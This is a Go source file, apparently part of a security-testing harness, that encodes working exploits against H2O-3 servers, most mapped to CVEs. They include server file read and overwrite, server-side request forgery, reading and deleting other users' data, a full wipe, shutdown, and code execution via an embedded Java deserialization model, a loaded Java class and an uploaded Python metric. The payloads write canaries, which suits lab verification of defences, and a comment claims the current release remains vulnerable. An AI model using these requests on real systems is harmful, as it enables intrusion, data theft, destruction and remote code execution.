package attack

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	_ "embed"
	"encoding/binary"
	"io"
	"strconv"
	"strings"
)

// h2oAttacks are the exploits against H2O-3. The newest release as this was written, 3.46.0.12, still takes nearly all of them.
var h2oAttacks = concat(h2oFiles, h2oOthers, h2oJDBC, h2oCode, h2oServer)

func concat(lists ...[]Attack) []Attack {
	var all []Attack
	for _, l := range lists {
		all = append(all, l...)
	}
	return all
}

// h2oBoth are the releases that the tests run.
var h2oBoth = []string{"3.46.0.12", "3.46.0.4"}

// form is a POST of a form, encoded as it stands.
func form(path, body string) Step {
	return Step{Request: "POST " + path + "\nContent-Type: application/x-www-form-urlencoded\n\n" + body}
}

// labFrame makes a frame of the attacker's own, ${frame}, and labModel a model of it, ${model}.
var (
	labUpload = Step{Request: "POST /3/PostFile?destination_frame=lab-${nonce}.csv\n\na,b\n1,x\n2,y\n3,x\n4,y\n5,x\n6,y\n"}
	labParse  = form("/3/Parse", `destination_frame=lab-${nonce}&source_frames=["lab-${nonce}.csv"]&parse_type=CSV&separator=44&number_columns=2&check_header=1&`+
		`column_names=["a","b"]&column_types=["Numeric","Enum"]&delete_on_done=true&blocking=true`).save("frame", "destination_frame.name")
	labModel = form("/3/ModelBuilders/glm", "model_id=lab-model-${nonce}&training_frame=${frame}&response_column=a&family=gaussian&lambda=0").save("job", "job.key.name")
	labWait  = Step{Request: "GET /3/Jobs/${job|url}", Until: `"status":"DONE"`}
)

// secretFrame is a frame of somebody else's that holds the secret.
var secretFrame = []Step{
	Step{Request: "POST /3/PostFile?destination_frame=secret-${nonce}.csv\n\na,b\n1,${secret}\n2,other\n"}.by(Victim),
	form("/3/Parse", `destination_frame=secret-${nonce}&source_frames=["secret-${nonce}.csv"]&parse_type=CSV&separator=44&number_columns=2&check_header=1&`+
		`column_names=["a","b"]&column_types=["Numeric","Enum"]&delete_on_done=true&blocking=true`).by(Victim),
}

func after(first []Step, more ...Step) []Step { return append(append([]Step{}, first...), more...) }

var (
	ownFrame = []Step{labUpload, labParse}
	ownModel = []Step{labUpload, labParse, labModel, labWait}
)

// h2oFiles read and write files of the server and make it connect.
var h2oFiles = []Attack{
	{
		ID: "h2o/typeahead", CVE: []string{"CVE-2024-5550"}, Doc: "lists a folder of the server", Works: h2oBoth,
		Steps: []Step{get("/3/Typeahead/files?src=${secret-dir|url}&limit=100")}, Proof: Proof{Answer: "${secret-file}"}, ReadOnly: true,
	},
	{
		ID: "h2o/import-file", CVE: []string{"CVE-2023-6038"}, Doc: "reads a file of the server", Works: h2oBoth,
		Steps: []Step{
			form("/3/ImportFiles", "path=${secret-file|url}").save("key", "destination_frames.0"),
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/import-file-by-get", CVE: []string{"CVE-2023-6038"}, Doc: "reads a file of the server by requests that look as if they only read", Works: h2oBoth,
		Steps: []Step{
			get("/3/ImportFiles?path=${secret-file|url}").save("key", "destination_frames.0"),
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/import-many", CVE: []string{"CVE-2023-6038"}, Doc: "reads a file of the server, hidden among several", Works: h2oBoth,
		Steps: []Step{
			form("/3/ImportFilesMulti", `paths=["${secret-file|url}"]`).save("key", "destination_frames.0"),
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/import-by-key", CVE: []string{"CVE-2023-6038"}, Doc: "parses the key that another's import of the file made", Works: h2oBoth,
		Steps: []Step{
			form("/3/ImportFiles", "path=${secret-file|url}").by(Victim).save("key", "destination_frames.0"),
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/import-from-json", CVE: []string{"CVE-2023-6038"}, Doc: "says the path in a JSON body, which H2O reads instead of a form", Works: h2oBoth,
		Steps: []Step{
			post("/3/ImportFiles", `{"path": "${secret-file|json}"}`).save("key", "destination_frames.0"),
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/cross-site-form", Doc: "reads a file by a form that a page of another site sends with the victim's browser", Works: h2oBoth,
		Steps: []Step{
			{Request: "POST /3/ImportFiles\nContent-Type: application/x-www-form-urlencoded\nOrigin: http://evil.example\nSec-Fetch-Site: cross-site\n\npath=${secret-file|url}",
				Save: map[string]string{"key": "destination_frames.0"}},
			form("/3/ParseSetup", `source_frames=["${key|url}"]`),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/export-frame", CVE: []string{"CVE-2023-6569"}, Doc: "writes a file of the attacker's choice anywhere", Works: h2oBoth,
		Steps: after(ownFrame, form("/3/Frames/${frame}/export", "path=${canary-file|url}&force=true").save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${canary-file}", Holds: `"a","b"`},
	},
	{
		ID: "h2o/export-overwrites", CVE: []string{"CVE-2023-6569", "CVE-2024-5986"}, Doc: "overwrites a file of the server", Works: h2oBoth,
		Steps: after(ownFrame, form("/3/Frames/${frame}/export", "path=${prey-file|url}&force=true").save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${prey-file}", Holds: `"a","b"`},
	},
	{
		ID: "h2o/export-by-get", CVE: []string{"CVE-2023-6569"}, Doc: "writes a file by a GET whose path holds the file's", Works: h2oBoth,
		// The name has no dot: H2O takes what stands behind the first dot of a URL for the type of its answer (RequestType.requestType), starts the job,
		// fails with 412 to tell of it, and nobody knows what to wait for.
		Steps: after(ownFrame, get("/3/Frames/${frame}/export/${canary-dir}/written/overwrite/true").save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${canary-dir}/written", Holds: `"a","b"`},
	},
	{
		ID: "h2o/save-frame", CVE: []string{"CVE-2023-6569"}, Doc: "writes a frame in H2O's own format anywhere", Works: h2oBoth,
		Steps: after(ownFrame, form("/3/Frames/${frame}/save", "dir=${canary-dir|url}&force=true").save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${canary-dir}/lab-${nonce}"},
	},
	{
		ID: "h2o/save-model", CVE: []string{"CVE-2024-6854"}, Doc: "writes a model anywhere by a GET", Works: h2oBoth,
		Steps: after(ownModel, get("/99/Models.bin/lab-model-${nonce}?dir=${canary-file|url}&force=true")),
		Proof: Proof{File: "${canary-file}"},
	},
	{
		ID: "h2o/save-model-overwrites", CVE: []string{"CVE-2024-6854", "CVE-2024-8616"}, Doc: "overwrites a file with the JSON of a model", Works: h2oBoth,
		Steps: after(ownModel, get("/99/Models/lab-model-${nonce}/json?dir=${prey-file|url}&force=true")),
		Proof: Proof{File: "${prey-file}", Holds: "lab-model"},
	},
	{
		ID: "h2o/save-mojo", CVE: []string{"CVE-2024-6854"}, Doc: "writes a MOJO anywhere by a GET", Works: []string{"3.46.0.4"},
		Steps: after(ownModel, get("/99/Models.mojo/lab-model-${nonce}?dir=${canary-file|url}&force=true")),
		Proof: Proof{File: "${canary-file}"},
	},
	{
		ID: "h2o/checkpoints", Doc: "writes models anywhere while they are trained", Works: h2oBoth,
		Steps: after(ownFrame, form("/3/ModelBuilders/glm", "model_id=lab-model-${nonce}&training_frame=${frame}&response_column=a&family=gaussian&lambda=0&export_checkpoints_dir=${canary-dir|url}").
			save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${canary-dir}/lab-model-${nonce}"},
	},
	{
		ID: "h2o/export-grid", Doc: "writes a grid anywhere", Works: h2oBoth,
		Steps: after(ownFrame, form("/99/Grid/glm", `grid_id=lab-grid-${nonce}&training_frame=${frame}&response_column=a&hyper_parameters={"lambda":[0]}`).save("job", "job.key.name"), labWait,
			form("/3/Grid.bin/lab-grid-${nonce}/export", "grid_directory=${canary-dir|url}")),
		Proof: Proof{File: "${canary-dir}/lab-grid-${nonce}"},
	},
	{
		ID: "h2o/import-url", Doc: "makes the server fetch a URL of its own network", Works: h2oBoth,
		Steps: []Step{form("/3/ImportFiles", "path=http%3A%2F%2F${listener}%2Fmetadata-${nonce}.csv")},
		Proof: Proof{Heard: "metadata-${nonce}"},
	},
	{
		ID: "h2o/typeahead-url", CVE: []string{"CVE-2024-8062"}, Doc: "makes the server fetch a URL while it completes a file name", Works: h2oBoth,
		Steps: []Step{get("/3/Typeahead/files?src=http%3A%2F%2F${listener}%2Ftypeahead-${nonce}&limit=1")},
		Proof: Proof{Heard: "typeahead-${nonce}"},
	},
	{
		ID: "h2o/model-url", CVE: []string{"CVE-2024-6960"}, Doc: "makes the server fetch a model, which it restores as Java objects", Works: h2oBoth,
		Steps: []Step{form("/99/Models.bin/lab", "dir=http%3A%2F%2F${listener}%2Fmodel-${nonce}")},
		Proof: Proof{Heard: "model-${nonce}"},
	},
	{
		ID: "h2o/grid-url", CVE: []string{"CVE-2024-6960"}, Doc: "makes the server fetch a grid, which it restores as Java objects", Works: h2oBoth,
		Steps: []Step{form("/3/Grid.bin/import", "grid_path=http%3A%2F%2F${listener}%2Fgrid-${nonce}")},
		Proof: Proof{Heard: "grid-${nonce}"},
	},
	{
		ID: "h2o/frame-url", CVE: []string{"CVE-2024-6960"}, Doc: "makes the server fetch a frame in its own format", Works: h2oBoth,
		Steps: []Step{form("/3/Frames/load", "frame_id=lab-${nonce}&dir=http%3A%2F%2F${listener}%2Fframe-${nonce}")},
		Proof: Proof{Heard: "frame-${nonce}"},
	},
	{
		ID: "h2o/recovery-url", Doc: "makes the server fetch the state of an earlier cluster", Works: h2oBoth,
		Steps: []Step{form("/3/Recovery/resume", "recovery_dir=http%3A%2F%2F${listener}%2Frecovery-${nonce}")},
		Proof: Proof{Heard: "recovery-${nonce}"},
	},
}

// h2oOthers reach what belongs to others.
var h2oOthers = []Attack{
	{
		ID: "h2o/download-foreign", Doc: "downloads a frame of somebody else", Works: h2oBoth,
		Steps: after(secretFrame, get("/3/DownloadDataset?frame_id=secret-${nonce}")), Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/read-foreign", Doc: "reads the columns of a frame of somebody else", Works: h2oBoth,
		Steps: after(secretFrame, get("/3/Frames/secret-${nonce}/columns/b/domain")), Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/list-foreign", Doc: "lists the frames of everybody", Works: h2oBoth,
		Steps: after(secretFrame, get("/3/Frames")), Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "h2o/rapids-foreign", CVE: []string{"CVE-2024-10572"}, Doc: "reads a frame of somebody else by an expression", Works: h2oBoth,
		Steps: after(secretFrame, form("/99/Rapids", "ast=(flatten%20(rows%20(cols%20secret-${nonce}%201)%200))")), Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/rapids-ls", Doc: "lists every key by an expression", Works: h2oBoth,
		Steps: after(secretFrame, form("/99/Rapids", "ast=(tmp=%20lab-ls-${nonce}%20(ls))"), get("/3/Frames/lab-ls-${nonce}/columns/key/domain")), Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "h2o/delete-foreign", Doc: "deletes a frame of somebody else", Works: h2oBoth,
		Steps: after(secretFrame, Step{Request: "DELETE /3/Frames/secret-${nonce}"}), Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Hides: "secret-${nonce}"},
	},
	{
		ID: "h2o/delete-key", Doc: "deletes a key of somebody else", Works: h2oBoth,
		Steps: after(secretFrame, Step{Request: "DELETE /3/DKV/secret-${nonce}"}), Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Hides: "secret-${nonce}"},
	},
	{
		ID: "h2o/rapids-rm-foreign", Doc: "deletes a frame of somebody else by an expression", Works: h2oBoth,
		Steps: after(secretFrame, form("/99/Rapids", "ast=(rm%20secret-${nonce})")), Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Hides: "secret-${nonce}"},
	},
	{
		ID: "h2o/rapids-rename", Doc: "takes a frame of somebody else over by another name", Works: h2oBoth,
		Steps: after(secretFrame, form("/99/Rapids", `ast=(rename%20"secret-${nonce}"%20"lab-mine-${nonce}")`), get("/3/DownloadDataset?frame_id=lab-mine-${nonce}")), Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/overwrite-foreign", Doc: "overwrites a frame of somebody else by one of the same name", Works: h2oBoth,
		Steps: after(secretFrame, labUpload, form("/3/Parse", `destination_frame=secret-${nonce}&source_frames=["lab-${nonce}.csv"]&parse_type=CSV&separator=44&number_columns=2&check_header=1&`+
			`column_names=["pwned","b"]&column_types=["Numeric","Enum"]&delete_on_done=true&blocking=true`)),
		Proof: Proof{Probe: &Step{Request: "GET /3/DownloadDataset?frame_id=secret-${nonce}"}, Shows: "pwned"},
	},
	{
		ID: "h2o/change-through-alias", Doc: "changes a frame of somebody else in place, through a temporary one that shares its columns", Works: h2oBoth,
		Steps: after(secretFrame, form("/99/Rapids", "session_id=_sid_00ab&ast=(tmp=%20lab-alias-${nonce}%20(cols%20secret-${nonce}%201))"),
			form("/99/Rapids", `session_id=_sid_00ab&ast=(setDomain%20lab-alias-${nonce}%20True%20["pwned"%20"pwned2"])`)),
		Proof: Proof{Probe: &Step{Request: "GET /3/DownloadDataset?frame_id=secret-${nonce}"}, Shows: "pwned"},
	},
	{
		ID: "h2o/delete-all-keys", Doc: "deletes everything", Works: h2oBoth,
		Steps: after(secretFrame, Step{Request: "DELETE /3/DKV"}), Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Hides: "secret-${nonce}"},
	},
	{
		ID: "h2o/delete-all-frames", Doc: "deletes all frames", Works: h2oBoth,
		Steps: after(secretFrame, Step{Request: "DELETE /3/Frames"}), Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Hides: "secret-${nonce}"},
	},
	{
		ID: "h2o/markup-in-names", CVE: []string{"CVE-2023-6013"}, Doc: "stores HTML as the name of a frame, which Flow shows to others", Works: h2oBoth,
		Steps: []Step{{Request: "POST /3/PostFile?destination_frame=lab-%3Cimg%20src=x%20onerror=1%3E${nonce}\n\na,b\n1,2\n"}},
		Proof: Proof{Probe: &Step{Request: "GET /3/Frames"}, Shows: "<img src=x onerror=1>${nonce}"},
	},
}

// h2oServer read and change the server itself.
var h2oServer = []Attack{
	{
		ID: "h2o/read-logs", Doc: "reads what others did in the server's log", Works: h2oBoth,
		Steps: []Step{form("/3/ImportFiles", "path=/no-such-folder/${secret}").by(Victim).optional(), get("/3/Logs/nodes/0/files/warn")},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/stacks", Doc: "reads the stacks of all threads", Works: h2oBoth, Steps: []Step{get("/3/JStack")}, Proof: Proof{Answer: "java.lang.Thread"}, ReadOnly: true,
	},
	{
		ID: "h2o/stacks-of-another-version", Doc: "asks for a version that there is not, for which H2O gives the next lower one", Works: h2oBoth,
		Steps: []Step{get("/99/JStack")}, Proof: Proof{Answer: "java.lang.Thread"}, ReadOnly: true,
	},
	{
		ID: "h2o/stacks-with-suffix", Doc: "ends the path in .json, which H2O takes away", Works: h2oBoth,
		Steps: []Step{get("/3/JStack.json")}, Proof: Proof{Answer: "java.lang.Thread"}, ReadOnly: true,
	},
	{
		ID: "h2o/profiler", Doc: "profiles the server for others' work", Works: h2oBoth, Steps: []Step{get("/3/Profiler?depth=5")}, Proof: Proof{Answer: "node_name"}, ReadOnly: true,
	},
	{
		ID: "h2o/rebinding", Doc: "asks under the name of a page that was rebound to this address", Works: h2oBoth,
		Steps: []Step{{Request: "GET /3/About\nHost: evil.example"}}, Proof: Proof{Answer: "Build git branch"}, ReadOnly: true,
	},
	{
		ID: "h2o/notebook", CVE: []string{"CVE-2023-6013"}, Doc: "stores a notebook of one's own choice where others open theirs", Works: h2oBoth,
		Steps: []Step{form("/3/NodePersistentStorage/notebook/lab-${nonce}", "value=${secret}")},
		Proof: Proof{Probe: &Step{Request: "GET /3/NodePersistentStorage/notebook/lab-${nonce}"}, Shows: "${secret}"},
	},
	{
		ID: "h2o/read-notebook", Doc: "reads the notebook of somebody else", Works: h2oBoth,
		Steps: []Step{form("/3/NodePersistentStorage/notebook/secret-${nonce}", "value=${secret}").by(Victim), get("/3/NodePersistentStorage/notebook/secret-${nonce}")},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/set-property", CVE: []string{"CVE-2024-10572"}, Doc: "sets a property of the server's JVM by an expression", Works: h2oBoth,
		Steps: []Step{form("/99/Rapids", `ast=(setproperty%20"weir.canary"%20"${secret}")`), form("/99/Rapids", `ast=(setproperty%20"weir.canary"%20"")`)},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/run-tool", CVE: []string{"CVE-2024-5979", "CVE-2024-6863"}, Doc: "starts a tool inside the server, which ends the JVM when it does not like its arguments", Works: []string{"3.46.0.4"},
		Steps: []Step{form("/99/Rapids", `ast=(run_tool%20"MojoConvertTool"%20["/no-such-file"%20"/no-such-folder/x"])`)}, Proof: Proof{Down: true},
	},
	{
		ID: "h2o/shutdown", Doc: "stops the server", Works: h2oBoth, Steps: []Step{form("/3/Shutdown", "")}, Proof: Proof{Down: true},
	},
}

// h2oCode run code of the attacker's inside the server.
var h2oCode = []Attack{
	{
		ID: "h2o/upload-model", CVE: []string{"CVE-2024-6960"}, Doc: "uploads a model with a Java object in it, and has it restored", Works: h2oBoth[:1],
		Steps: []Step{
			{Request: "POST /3/PostFile.bin?destination_frame=lab-rmi-${nonce}", Make: rmiModelFor},
			form("/99/Models.upload.bin/lab", "dir=lab-rmi-${nonce}"),
		},
		Proof: Proof{Heard: "connection"},
	},
	{
		ID: "h2o/import-model", CVE: []string{"CVE-2024-6960"}, Doc: "imports a model with a Java object in it from where the attacker left it", Works: h2oBoth[:1],
		Steps: []Step{
			Step{Request: "POST /3/PostFile.bin?destination_frame=secret-rmi-${nonce}", Make: rmiModelFor}.by(Victim), // one way of many to leave bytes there
			form("/99/Models.upload.bin/lab", "dir=secret-rmi-${nonce}"),
		},
		Proof: Proof{Heard: "connection"},
	},
	{
		ID: "h2o/tool-writes", CVE: []string{"CVE-2024-6863"}, Doc: "starts a tool inside the server that unpacks libraries anywhere", Works: h2oBoth,
		Steps: []Step{form("/99/Rapids", `ast=(run_tool%20"XGBoostLibExtractTool"%20["${canary-dir}"])`)}, Proof: Proof{File: "${canary-dir}/libxgboost4j_minimal.so"},
	},
	{
		ID: "h2o/pojo", CVE: []string{"CVE-2023-6016", "CVE-2024-10572"}, Doc: "switches the import of Java source on by a property, and imports a class that runs when it is loaded", Works: h2oBoth,
		Steps: []Step{
			form("/99/Rapids", `ast=(setproperty%20"sys.ai.h2o.pojo.import.enabled"%20"true")`),
			{Request: "POST /3/PostFile?destination_frame=lab_pojo_${nonce}.java\n\n" + pojo},
			form("/3/ModelBuilders/generic", "model_id=lab-pojo-${nonce}&model_key=lab_pojo_${nonce}.java").save("job", "job.key.name"),
			{Request: "GET /3/Jobs/${job|url}", Until: `"status":"FAILED"`}, // once it was loaded, H2O finds that it is no model
			form("/99/Rapids", `ast=(setproperty%20"sys.ai.h2o.pojo.import.enabled"%20"false")`),
		},
		Proof: Proof{File: "${canary-file}", Holds: "${nonce}"},
	},
	{
		ID: "h2o/uploaded-metric", Doc: "uploads Python code as a metric and has it run while a model is trained", Works: h2oBoth,
		Steps: after(ownFrame,
			Step{Request: "POST /3/PutKey?destination_key=lab_metric_${nonce}&overwrite=true", Make: metricArchive},
			form("/3/ModelBuilders/gbm", "model_id=lab-model-${nonce}&training_frame=${frame}&response_column=a&ntrees=1&min_rows=1&custom_metric_func=python:lab_metric_${nonce}=canary.Metric").
				save("job", "job.key.name"), labWait),
		Proof: Proof{File: "${server-dir}/weir-metric-canary"},
	},
}

// rmiModel is a model of H2O 3.46.0.12 in which one field holds a remote reference of Java's instead of a list: restoring it connects to where that
// points (testdata/make/h2o makes it). The port stands behind the address, in four bytes.
//
//go:embed data/h2o-rmi.bin.gz
var rmiModel []byte

func rmiModelFor(vars map[string]string) []byte {
	z, err := gzip.NewReader(bytes.NewReader(rmiModel))
	if err != nil {
		return nil
	}
	b, err := io.ReadAll(io.LimitReader(z, 1<<20))
	_, port, found := strings.Cut(vars["listener"], ":")
	n, perr := strconv.Atoi(port)
	i := bytes.Index(b, []byte("\x00\x09127.0.0.1"))
	if err != nil || !found || perr != nil || i < 0 {
		return nil
	}
	binary.BigEndian.PutUint32(b[i+11:], uint32(n))
	return b
}

// pojo is the source of a class that writes the canary when it is loaded; it is no model, and need not be one.
const pojo = `import java.io.FileWriter;
public class lab_pojo_${nonce} extends hex.genmodel.GenModel {
  static {
    try (FileWriter w = new FileWriter("${canary-file}")) { w.write("${nonce}"); } catch (Exception e) { }
  }
  public lab_pojo_${nonce}() { super(new String[]{"a"}, new String[][]{null}, null); }
  public hex.ModelCategory getModelCategory() { return hex.ModelCategory.Regression; }
  public String getUUID() { return "0"; }
  public double[] score0(double[] data, double[] preds) { return preds; }
}
`

// metricArchive is the archive that h2o.upload_custom_metric makes: a Python file. Its source writes a canary into the current folder.
func metricArchive(map[string]string) []byte {
	return zipOf("canary.py", metricSource)
}

const metricSource = `open("weir-metric-canary", "w").close()
import water.udf.CMetricFunc as MetricFunc

class Metric(MetricFunc):
    def map(self, pred, act, w, o, model): return [0.0, 1.0]
    def reduce(self, l, r): return l
    def metric(self, l): return 0.0
`

func zipOf(name, text string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	if w, err := z.Create(name); err == nil { // a buffer takes everything
		io.WriteString(w, text)
	}
	z.Close()
	return b.Bytes()
}
